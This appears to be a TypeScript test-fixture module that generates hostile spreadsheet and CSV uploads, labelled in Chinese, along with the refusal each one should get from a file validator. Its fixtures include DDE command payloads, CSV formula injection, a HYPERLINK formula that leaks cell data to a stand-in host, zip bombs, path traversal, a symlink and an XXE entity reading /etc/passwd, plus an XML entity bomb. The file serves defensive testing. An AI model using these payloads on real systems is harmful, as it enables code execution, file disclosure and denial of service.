import * as XLSX from '@e965/xlsx'
import { strToU8, unzipSync } from 'fflate'
import { container, formula, GOOD, made, SHEET_PART, sheet, utf8, withParts } from './make.ts'
import { deflatedBlanks, type RawEntry, rawZip } from './raw-zip.ts'

/** A file that means harm, or looks like it, and how reading it ends: refused with words, or so many rows. */
export type HostileFile = {
  says: string
  file: string
  bytes: () => Uint8Array
  refused?: RegExp
  rows?: number
}

const HEAD = ['单位名称', '人数', '金额（元）']

/** The parts of a good workbook, for a zip of one's own. */
const goodEntries = (): RawEntry[] => Object.entries(unzipSync(GOOD)).map(([name, data]) => ({ name, data }))

const good = (...more: RawEntry[]) =>
  rawZip([...goodEntries().filter(({ name }) => !more.some((each) => each.name === name)), ...more])

const big = (megabytes: number, claimed?: number): RawEntry => ({
  name: SHEET_PART,
  data: new Uint8Array(0),
  packed: deflatedBlanks(megabytes),
  claimed: claimed ?? megabytes * 1024 * 1024,
})

function ole(streams: Record<string, Uint8Array>): Uint8Array {
  const made = XLSX.CFB.utils.cfb_new()
  for (const [name, data] of Object.entries(streams)) XLSX.CFB.utils.cfb_add(made, name, data)
  return new Uint8Array(XLSX.CFB.write(made, { type: 'buffer' }) as ArrayLike<number>)
}

function external(inner: string): Uint8Array {
  return withParts(GOOD, {
    'xl/externalLinks/externalLink1.xml': `<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${inner}</externalLink>`,
  })
}

const inSheet = (change: (xml: string) => string) => withParts(GOOD, { [SHEET_PART]: change })
const rowsBefore = (rows: string) => inSheet((xml) => xml.replace('</sheetData>', `${rows}</sheetData>`))

const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`

const FORMULAS: HostileFile[] = [
  {
    says: '数据里的公式',
    file: '公式.xlsx',
    bytes: () => sheet([HEAD, ['县总工会', formula('1+1', 2), 1]]),
    refused: /B2 是公式/,
  },
  { says: '老 .xls 数据里的公式', file: '公式.xls', bytes: () => made('formula.xls'), refused: /B2 是公式/ },
  {
    says: '循环引用',
    file: '循环.xlsx',
    bytes: () => sheet([HEAD, ['县总工会', formula('C2', 0), formula('B2', 0)]]),
    refused: /B2、C2 是公式/,
  },
  {
    says: '合计行里借求和之名调用程序',
    file: 'dde.xlsx',
    bytes: () => sheet([HEAD, ['县总工会', 1, 1], ['合计', formula(`cmd|'/c calc'!A0`, 0), 1]]),
    refused: /B3 是公式/,
  },
  {
    says: '标题行里的 HYPERLINK 公式',
    file: '链接.xlsx',
    bytes: () =>
      sheet([
        [{ t: 's', v: '标题', f: 'HYPERLINK("http://example.com/?"&A2,"标题")' }],
        HEAD,
        ['县总工会', 1, 1],
      ]),
    refused: /A1 是公式/,
  },
  {
    says: '公式藏在没有位置的单元格里',
    file: '无位置.xlsx',
    bytes: () => rowsBefore('<row r="9"><c><f>1+1</f><v>2</v></c></row>'),
    refused: /是公式/,
  },
  {
    says: '外部链接里的 DDE',
    file: 'dde2.xlsx',
    bytes: () => external('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    refused: /DDE/,
  },
  {
    says: '引用别的工作簿',
    file: '外链.xlsx',
    bytes: () => external('<externalBook/>'),
    refused: /外部链接/,
  },
  {
    says: '外部数据连接',
    file: '连接.xlsx',
    bytes: () => withParts(GOOD, { 'xl/connections.xml': '<connections/>' }),
    refused: /外部数据连接/,
  },
  {
    says: 'csv 里的公式',
    file: 'a.csv',
    bytes: () => utf8('单位名称,人数\n县总,=1+1\n'),
    refused: /B2 是公式/,
  },
  {
    says: 'csv 里的 DDE',
    file: 'b.csv',
    bytes: () => utf8(`单位名称,人数\n+cmd|'/c calc'!A0,1\n`),
    refused: /A2 是公式/,
  },
]

const MACROS: HostileFile[] = [
  { says: '按名字就是带宏的', file: 'a.xlsm', bytes: () => GOOD, refused: /xlsm/ },
  {
    says: '带宏的改名为 .xlsx',
    file: 'b.xlsx',
    bytes: () => withParts(GOOD, { 'xl/vbaProject.bin': new Uint8Array(100) }),
    refused: /宏/,
  },
  {
    says: '类型写成带宏',
    file: 'c.xlsx',
    bytes: () =>
      withParts(GOOD, {
        '[Content_Types].xml': (xml) =>
          xml.replace(/spreadsheetml\.sheet\.main/g, 'ms-excel.sheet.macroEnabled.main'),
      }),
    refused: /宏/,
  },
  {
    says: 'Excel 4.0 宏表',
    file: 'd.xlsx',
    bytes: () => withParts(GOOD, { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }),
    refused: /宏/,
  },
  {
    says: 'ActiveX 控件',
    file: 'e.xlsx',
    bytes: () => withParts(GOOD, { 'xl/activeX/activeX1.xml': '<ocx/>' }),
    refused: /ActiveX/,
  },
  {
    says: '老 .xls 里的宏',
    file: 'f.xls',
    bytes: () => ole({ '/Workbook': new Uint8Array(600), '/_VBA_PROJECT_CUR/VBA/dir': new Uint8Array(100) }),
    refused: /宏/,
  },
  {
    says: '加密的 xlsx',
    file: 'g.xlsx',
    bytes: () => ole({ '/EncryptedPackage': new Uint8Array(5000), '/EncryptionInfo': new Uint8Array(200) }),
    refused: /密码/,
  },
  {
    says: '压缩包加密',
    file: 'h.xlsx',
    bytes: () => rawZip(goodEntries().map((entry) => ({ ...entry, flags: 1 }))),
    refused: /密码/,
  },
]

/** 120,000 cells that all show the same long shared text. */
function manyTexts(): Uint8Array {
  const cells = (row: number) =>
    Array.from(
      { length: 60 },
      (_, at) => `<c r="${XLSX.utils.encode_cell({ r: row, c: at })}" t="s"><v>0</v></c>`,
    )
  const rows = Array.from({ length: 2_000 }, (_, at) => `<row r="${at + 9}">${cells(at + 8).join('')}</row>`)
  return withParts(rowsBefore(rows.join('')), {
    'xl/sharedStrings.xml': `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>${'字'.repeat(1_900)}</t></si></sst>`,
    'xl/_rels/workbook.xml.rels': (xml) =>
      xml.replace(
        '</Relationships>',
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
      ),
    '[Content_Types].xml': (xml) =>
      xml.replace(
        '</Types>',
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
      ),
  })
}

const BOMBS: HostileFile[] = [
  { says: '一个部分解压 1 GB', file: '炸弹.xlsx', bytes: () => good(big(1024)), refused: /解压后过大/ },
  {
    says: '自称很小，解压 1 GB',
    file: '谎报.xlsx',
    bytes: () => good(big(1024, 1000)),
    refused: /解压后过大/,
  },
  {
    says: '每个都不大，加起来超限',
    file: '合起来.xlsx',
    bytes: () =>
      good(
        ...Array.from({ length: 120 }, (_, at) => ({ ...big(1), name: `xl/worksheets/sheet${at + 1}.xml` })),
      ),
    refused: /解压后过大/,
  },
  {
    says: '嵌套的炸弹藏在附件里：不解压，照常读表',
    file: '嵌套.xlsx',
    bytes: () => good({ name: 'xl/embeddings/bomb.bin', data: good(big(1024)) }),
    rows: 2,
  },
  {
    says: '压缩包里套压缩包',
    file: '套.xlsx',
    bytes: () => rawZip([{ name: 'a.zip', data: good(big(1024)) }]),
    refused: /压缩包/,
  },
  {
    says: '一万个部分',
    file: '很多.xlsx',
    bytes: () =>
      rawZip(Array.from({ length: 10_000 }, (_, at) => ({ name: `xl/${at}.xml`, data: new Uint8Array(0) }))),
    refused: /10000 个部分/,
  },
  {
    says: '十个整列下拉：照常读表',
    file: '下拉.xlsx',
    bytes: () =>
      inSheet((xml) =>
        xml.replace(
          '</worksheet>',
          `<dataValidations count="10">${Array.from({ length: 10 }, (_, at) => `<dataValidation type="list" sqref="${String.fromCharCode(65 + at)}1:${String.fromCharCode(65 + at)}1048576"><formula1>"是,否"</formula1></dataValidation>`).join('')}</dataValidations></worksheet>`,
        ),
      ),
    rows: 2,
  },
  {
    says: '整张表合并成一格：照常读表',
    file: '合并.xlsx',
    bytes: () =>
      inSheet((xml) =>
        xml.replace('</sheetData>', '</sheetData><mergeCells><mergeCell ref="A3:XFD1048576"/></mergeCells>'),
      ),
    rows: 2,
  },
  {
    says: '一百万个空单元格：照常读表',
    file: '空格.xlsx',
    bytes: () =>
      rowsBefore(
        Array.from(
          { length: 50_000 },
          (_, row) => `<row r="${row + 9}">${'<c s="1"/>'.repeat(20)}</row>`,
        ).join(''),
      ),
    rows: 2,
  },
  {
    says: '一万六千列',
    file: '宽.xlsx',
    bytes: () => rowsBefore(`<row r="9">${'<c><v>1</v></c>'.repeat(16_384)}</row>`),
    refused: /16384 列/,
  },
  {
    says: '五百万个单元格',
    file: '满.xlsx',
    bytes: () => rowsBefore(`<row r="9">${'<c><v>1</v></c>'.repeat(60)}</row>`.repeat(50_000)),
    refused: /解压后过大|行，一次最多/,
  },
  {
    says: '两万一千行',
    file: '长.xlsx',
    bytes: () => sheet([HEAD, ...Array.from({ length: 20_001 }, (_, at) => [`单位${at}`, at, 1])]),
    refused: /20001 行/,
  },
  {
    says: '一段十几 MB 的共享文字',
    file: '长文.xlsx',
    bytes: () =>
      withParts(GOOD, {
        'xl/sharedStrings.xml': `<sst><si><t>${Array.from({ length: 400_000 }, (_, at) => (at * 7919).toString(36).padStart(12, '字')).join('')}</t></si></sst>`,
      }),
    refused: /特别长/,
  },
  { says: '每格近两千字，共两亿多字', file: '重复.xlsx', bytes: manyTexts, refused: /文字太多/ },
  {
    says: '让解析越走越慢的残缺标签',
    file: '残缺.xlsx',
    bytes: () =>
      inSheet((xml) => {
        const tags = Array.from({ length: 100_000 }, (_, at) => `<c r="${at * 7919}" <row hidden="1" `)
        return xml.replace('</sheetData>', `${tags.join('')}</sheetData>`)
      }),
    refused: /一次最多/,
  },
]

const BROKEN: HostileFile[] = [
  { says: '空文件', file: 'a.xlsx', bytes: () => new Uint8Array(0), refused: /空的/ },
  { says: '下载了一半', file: 'b.xlsx', bytes: () => GOOD.slice(0, GOOD.length / 2), refused: /损坏/ },
  {
    says: '内容被改坏',
    file: 'c.xlsx',
    bytes: () => GOOD.map((byte, at) => (at > 200 && at < GOOD.length - 1500 ? byte ^ 0x5a : byte)),
    refused: /损坏/,
  },
  {
    says: '路径指到外面',
    file: 'd.xlsx',
    bytes: () => good({ name: '../../etc/cron.d/x', data: strToU8('x') }),
    refused: /路径不正常/,
  },
  {
    says: '同名的两个部分',
    file: 'e.xlsx',
    bytes: () => rawZip([...goodEntries(), { name: 'XL/workbook.xml', data: strToU8('<workbook/>') }]),
    refused: /损坏/,
  },
  {
    says: '符号链接',
    file: 'f.xlsx',
    bytes: () => good({ name: 'xl/link.xml', data: strToU8('/etc/passwd'), attributes: 0xa1ff0000 }),
    refused: /链接/,
  },
  {
    says: 'XML 实体炸弹',
    file: 'g.xlsx',
    bytes: () => withParts(GOOD, { 'xl/sharedStrings.xml': `${LAUGHS}<sst><si><t>&c;</t></si></sst>` }),
    refused: /实体/,
  },
  {
    says: '外部实体',
    file: 'h.xlsx',
    bytes: () =>
      inSheet((xml) => xml.replace('?>', '?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')),
    refused: /实体/,
  },
  {
    says: 'UTF-16 里藏实体',
    file: 'i.xlsx',
    bytes: () =>
      withParts(GOOD, { 'xl/styles.xml': new Uint8Array(Buffer.from('\ufeff<!DOCTYPE x>', 'utf16le')) }),
    refused: /编码不正常/,
  },
  {
    says: '网页存成 .xls',
    file: 'j.xls',
    bytes: () => utf8('<html><table><tr><td>单位</td></tr></table></html>'),
    refused: /网页/,
  },
  {
    says: 'XML 表格 2003',
    file: 'k.xls',
    bytes: () => utf8('<?xml version="1.0"?><Workbook/>'),
    refused: /XML/,
  },
  { says: 'PDF 改名', file: 'l.xlsx', bytes: () => utf8('%PDF-1.7 ...'), refused: /PDF/ },
  { says: '程序改名', file: 'm.xls', bytes: () => Uint8Array.from([0x4d, 0x5a, 0x90, 0]), refused: /程序/ },
  {
    says: 'Word 改名',
    file: 'n.xlsx',
    bytes: () => container({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<x/>' }),
    refused: /Word/,
  },
  { says: '普通压缩包改名', file: 'o.xlsx', bytes: () => container({ 'a.txt': 'x' }), refused: /压缩包/ },
  { says: '不收的类型', file: 'p.exe', bytes: () => GOOD, refused: /只能上传/ },
  {
    says: '残缺的 .xls',
    file: 'q.xls',
    bytes: () => ole({ '/Workbook': new Uint8Array(5000).fill(7) }),
    refused: /损坏|读不出来|是空的/,
  },
  {
    says: 'csv 引号不成对',
    file: 'r.csv',
    bytes: () => utf8('单位名称,人数\n"县总,1\n泗县,2\n'),
    refused: /引号/,
  },
  {
    says: 'csv 十万列',
    file: 's.csv',
    bytes: () => utf8(`单位名称${',1'.repeat(100_000)}\n`),
    refused: /100001 列/,
  },
  {
    says: 'csv 一格一百万字',
    file: 't.csv',
    bytes: () => utf8(`单位名称,人数\n${'字'.repeat(1_000_000)},1\n`),
    refused: /最多 2000 字/,
  },
  {
    says: '二进制改名 .csv',
    file: 'u.csv',
    bytes: () => Uint8Array.from({ length: 4096 }, (_, at) => at % 7),
    refused: /编码/,
  },
  {
    says: '超过 10 MB',
    file: 'v.csv',
    bytes: () => new Uint8Array(11 * 1024 * 1024).fill(0x61),
    refused: /最大 10 MB/,
  },
]

export const HOSTILE_FILES: readonly HostileFile[] = [...FORMULAS, ...MACROS, ...BOMBS, ...BROKEN]
